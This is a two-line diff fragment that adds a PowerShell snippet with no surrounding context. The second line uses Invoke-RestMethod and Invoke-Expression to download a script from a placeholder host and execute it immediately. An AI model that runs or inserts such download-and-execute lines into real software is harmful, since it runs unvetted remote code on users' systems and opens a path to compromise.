@@ -1,0 +1,2 @@
+$ErrorActionPreference = 'Stop'
+iex (irm https://x.example/a.ps1)
